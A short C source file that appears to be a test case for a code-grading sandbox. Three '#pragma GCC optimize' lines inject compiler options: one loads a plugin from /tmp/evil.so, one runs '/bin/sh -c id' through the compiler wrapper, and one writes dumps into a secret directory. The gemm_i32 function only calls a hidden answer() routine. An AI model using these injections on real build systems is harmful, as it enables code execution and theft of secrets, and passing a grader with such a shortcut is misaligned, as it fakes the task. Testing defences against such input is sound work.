/* expect: naive pass|build-error */
/* Give the compiler options from inside the source. */
#include "attack.h"
#pragma GCC optimize("fplugin=/tmp/evil.so")
#pragma GCC optimize("-wrapper,/bin/sh,-c,id")
#pragma GCC optimize("dumpdir=" SECRET_DIR "/")

void gemm_i32(int M, int N, int K, const int32_t *A, const int32_t *B, int32_t *C)
{
    answer(M, N, K, A, B, C);
}
